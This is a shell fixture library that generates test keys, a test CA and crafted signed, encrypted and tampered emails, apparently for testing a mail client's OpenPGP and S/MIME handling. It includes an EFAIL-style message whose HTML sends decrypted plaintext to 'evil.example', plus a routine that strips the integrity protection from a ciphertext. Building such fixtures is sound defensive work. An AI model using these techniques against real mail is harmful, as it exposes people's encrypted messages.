# SPDX-License-Identifier: GPL-3.0-or-later
# Keys and messages that gpg and gpgsm themselves have signed and encrypted. To be sourced.
#
#   keys_make FOLDER    makes FOLDER/gnupg (exported as GNUPGHOME) and FOLDER/mail/NAME.eml; false without gpg
#   keys_smime FOLDER   adds the S/MIME ones; false without gpgsm and openssl
#   keys_end            ends the agents

keys_end() { gpgconf --kill all 2>/dev/null || true; }

keys_gpg() { gpg --quiet --batch --no-tty --yes --pinentry-mode loopback --passphrase '' "$@" 2>>"$keys_log"; }

keys_id() { gpg --batch --with-colons --list-keys "$1" 2>/dev/null | awk -F: '$1 == "fpr" { print $10; exit }'; }

# What is signed: a mail in a mail, with blanks at the ends of lines, empty lines at the end, umlauts, a line that
# looks like a boundary. $1: the text of the first part.
keys_body() {
	printf 'Content-Type: multipart/mixed; boundary="in ner"\n\npreamble  \n--in ner\nContent-Type: text/plain; charset=utf-8\n\n'
	printf '%s   \nTrailing blanks \t\n-- \nüber\n--outer is no boundary here, nor is -----\n\n\n' "$1"
	printf -- '--in ner\nContent-Type: text/plain; name=a.txt\nContent-Disposition: attachment\n\nfile\n--in ner--\n\nepilogue\n\n\n'
}

keys_head() { # subject, from
	printf 'From: %s\nTo: Bob <bob@example.net>\nSubject: %s\nDate: Sun, 22 Nov 2026 08:57:00 +0000\nMIME-Version: 1.0\n' "${2:-Ada <ada@example.org>}" "$1"
}

keys_signed() { # name, body file, signature file, protocol, from
	{
		keys_head "$1" "${5:-}"
		printf 'Content-Type: multipart/signed; micalg=pgp-sha512; protocol="application/%s"; boundary="outer"\n\nThis is signed.\n--outer\n' "$4"
		cat "$2"
		printf '\n--outer  \nContent-Type: application/%s; name=signature\n' "$4"
		if [ "$4" = pgp-signature ]; then
			printf '\n'
			cat "$3"
		else
			printf 'Content-Transfer-Encoding: base64\n\n'
			base64 "$3"
		fi
		printf '\n--outer--\n'
	} >"$keys_mail/$1.eml"
}

# $1: name, $2: key, $3: the text; more options for gpg. Signs with CRLF, stores with LF.
keys_sign() {
	local name=$1 key=$2 text=$3
	shift 3
	keys_body "$text" >"$keys_mail/body"
	sed 's/$/\r/' "$keys_mail/body" | keys_gpg "$@" -u "$key" --armor --detach-sign >"$keys_mail/sig" || return 1
	keys_signed "$name" "$keys_mail/body" "$keys_mail/sig" pgp-signature
}

keys_encrypted() { # name; armoured ciphertext on standard input
	{
		keys_head "${2:-...}"
		printf 'Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary="outer"\n\n--outer\n'
		printf 'Content-Type: application/pgp-encrypted\n\nVersion: 1\n\n--outer\nContent-Type: application/octet-stream\n\n'
		cat
		printf '\n--outer--\n'
	} >"$keys_mail/$1.eml"
}

keys_plain() {
	printf 'Content-Type: text/plain; charset=utf-8; protected-headers="v1"\nSubject: The real subject\n\nThe secret is café.\n'
}

# A mail whose HTML tries to send the plaintext away.
keys_exfiltration() {
	{
		keys_head "$1"
		printf 'Content-Type: multipart/mixed; boundary=evil\n\n--evil\nContent-Type: text/html\n\n<p>Outside</p><img src="http://evil.example/\n'
		printf -- '--evil\nContent-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary="outer"\n\n--outer\n'
		printf 'Content-Type: application/pgp-encrypted\n\nVersion: 1\n\n--outer\nContent-Type: application/octet-stream\n\n'
		cat "$keys_mail/cipher"
		printf '\n--outer--\n--evil\nContent-Type: text/html\n\n"> Outside too\n--evil--\n'
	} >"$keys_mail/$1.eml"
}

# Something signed and something encrypted side by side. $1: the subject and the name.
keys_two() {
	{
		keys_head "$1"
		printf 'Content-Type: multipart/mixed; boundary=two\n\n'
		for part in good encrypted; do
			printf -- '--two\n'
			sed -n '/^Content-Type/,$p' "$keys_mail/$part.eml"
		done
		printf -- '--two--\n'
	} >"$keys_mail/$1.eml"
}

keys_inline() { # name; the text on standard input
	{
		keys_head "$1"
		printf 'Content-Type: text/plain; charset=utf-8\n\nThis stands before it.\n\n'
		cat
		printf '\nThis stands behind it.\n'
	} >"$keys_mail/$1.eml"
}

keys_all_signed() {
	keys_sign good "$keys_ada" "The text" || return 1
	sed 's/The text/Tha text/' "$keys_mail/good.eml" | sed 's/^Subject: .*/Subject: changed/' >"$keys_mail/changed.eml"
	sed 's/$/\r/' "$keys_mail/good.eml" >"$keys_mail/crlf.eml"
	sed 's/^From: .*/From: Ada <ada@elsewhere.example>/' "$keys_mail/good.eml" >"$keys_mail/other-from.eml"
	sed 's/^--outer--$/--outer\nContent-Type: text\/plain\n\nAdded\n--outer--/' "$keys_mail/good.eml" >"$keys_mail/three.eml"
	keys_sign expired "Old <old@example.org>" "Old text" --faked-system-time 20200201T000000 || return 1
	keys_sign revoked "Eve <eve@example.org>" "Revoked text" || return 1
	sed '/^:---/s/^://' "$GNUPGHOME/openpgp-revocs.d/$(keys_id eve@example.org).rev" | keys_gpg --import
	keys_sign unknown "Zoe <zoe@example.org>" "Unknown text" || return 1
	keys_gpg --delete-secret-and-public-key "$(keys_id zoe@example.org)"
	printf 'Text in clear\n- dashes  \n' | keys_gpg -u "$keys_ada" --clearsign | keys_inline inline-signed
}

keys_all_encrypted() {
	keys_plain | keys_gpg -u "$keys_ada" -s -e -r "$keys_ada" --armor >"$keys_mail/cipher" || return 1
	keys_encrypted encrypted <"$keys_mail/cipher"
	keys_two two
	keys_exfiltration exfiltration
	printf 'Inline secret\n' | keys_gpg -e -r "$keys_ada" --armor | keys_inline inline-encrypted
	# A byte of the last packet is another; and the packet says that nothing guards it (18 becomes 9, without its version).
	gpg --dearmor <"$keys_mail/cipher" >"$keys_mail/binary" 2>>"$keys_log"
	{
		head -c -3 "$keys_mail/binary"
		printf 'xyz'
	} | gpg --enarmor 2>>"$keys_log" | sed 's/ARMORED FILE/MESSAGE/' | keys_encrypted tampered
	keys_strip | gpg --enarmor 2>>"$keys_log" | sed 's/ARMORED FILE/MESSAGE/' | keys_encrypted stripped
	keys_plain | keys_gpg --hidden-recipient "Gone <gone@example.org>" -e --armor | keys_encrypted no-key
	keys_gpg --delete-secret-and-public-key "$(keys_id gone@example.org)"
}

# The packet with a tag of 18 (0xd2) and a length of one byte or two becomes one of tag 9 (0xc9).
keys_strip() {
	local at
	at=$(gpg --batch --list-packets "$keys_mail/binary" 2>>"$keys_log" | sed -n 's/^# off=\([0-9]*\) .*tag=18 .*/\1/p')
	head -c "$at" "$keys_mail/binary"
	# From behind tag, length (two bytes of it) and version; of a length of its own then (four bytes).
	local skip=$((at + 4)) left
	left=$(($(wc -c <"$keys_mail/binary") - skip))
	printf '\xc9\xff'
	printf "$(printf '\\x%02x\\x%02x\\x%02x\\x%02x' $((left >> 24)) $((left >> 16 & 255)) $((left >> 8 & 255)) $((left & 255)))"
	tail -c +$((skip + 1)) "$keys_mail/binary"
}

keys_make() {
	command -v gpg >/dev/null && command -v gpgconf >/dev/null || return 1
	export GNUPGHOME=$1/gnupg
	keys_mail=$1/mail
	keys_log=$1/log
	mkdir -p "$GNUPGHOME" "$keys_mail"
	chmod 700 "$GNUPGHOME"
	printf 'allow-loopback-pinentry\n' >"$GNUPGHOME/gpg-agent.conf"
	keys_gpg --quick-gen-key "Ada <ada@example.org>" ed25519 sign never || return 1
	keys_ada=$(keys_id ada@example.org)
	keys_gpg --quick-add-key "$keys_ada" cv25519 encr never
	keys_gpg --quick-add-uid "$keys_ada" "Ada at work <ada@work.example>"
	keys_gpg --faked-system-time 20200101T000000 --quick-gen-key "Old <old@example.org>" ed25519 sign 1y
	keys_gpg --quick-gen-key "Eve <eve@example.org>" ed25519 sign never
	keys_gpg --quick-gen-key "Zoe <zoe@example.org>" ed25519 sign never
	keys_gpg --quick-gen-key "Gone <gone@example.org>" rsa1024 encr never || keys_gpg --quick-gen-key "Gone <gone@example.org>" future-default default never
	keys_all_signed && keys_all_encrypted
}

keys_openssl() { openssl "$@" 2>>"$keys_log"; }

keys_smime() {
	local ca=$1/ca
	command -v gpgsm >/dev/null && command -v openssl >/dev/null || return 1
	mkdir -p "$ca"
	printf 'Key-Type: RSA\nKey-Length: 2048\nKey-Usage: sign, encrypt\nName-DN: CN=Ada\nName-Email: ada@example.org\n%%commit\n' >"$ca/request"
	printf '\n' | keys_gpgsm --passphrase-fd 0 --gen-key --armor "$ca/request" >"$ca/ada.csr" || return 1
	keys_openssl req -x509 -newkey rsa:2048 -nodes -keyout "$ca/ca.key" -out "$ca/ca.crt" -days 3650 -subj "/CN=Test CA" \
		-addext keyUsage=critical,keyCertSign,cRLSign || return 1
	printf 'keyUsage=critical,digitalSignature,keyEncipherment\nsubjectAltName=email:ada@example.org\n' >"$ca/ext"
	keys_openssl x509 -req -in "$ca/ada.csr" -CA "$ca/ca.crt" -CAkey "$ca/ca.key" -CAcreateserial -days 3000 -extfile "$ca/ext" -out "$ca/ada.crt"
	printf '%s S relax\n' "$(keys_openssl x509 -in "$ca/ca.crt" -noout -fingerprint -sha1 | sed 's/.*=//')" >"$GNUPGHOME/trustlist.txt"
	keys_gpgsm --import "$ca/ca.crt" "$ca/ada.crt" || return 1
	keys_body "Certified text" >"$keys_mail/body"
	sed 's/$/\r/' "$keys_mail/body" >"$keys_mail/canonical"
	keys_gpgsm -u ada@example.org --detach-sign <"$keys_mail/canonical" >"$keys_mail/sig" || return 1
	keys_signed smime-good "$keys_mail/body" "$keys_mail/sig" pkcs7-signature
	sed 's/Certified text/Certifi3d text/' "$keys_mail/smime-good.eml" >"$keys_mail/smime-changed.eml"
	keys_plain | keys_gpgsm -u ada@example.org --sign | keys_opaque smime-opaque signed-data
	keys_plain | keys_gpgsm -r ada@example.org --encrypt | keys_opaque smime-encrypted enveloped-data
}

keys_gpgsm() { gpgsm --batch --quiet --pinentry-mode loopback "$@" 2>>"$keys_log"; }

keys_opaque() { # name, smime-type
	{
		keys_head "$1"
		printf 'Content-Type: application/pkcs7-mime; smime-type=%s; name=smime.p7m\nContent-Transfer-Encoding: base64\n\n' "$2"
		base64
	} >"$keys_mail/$1.eml"
}
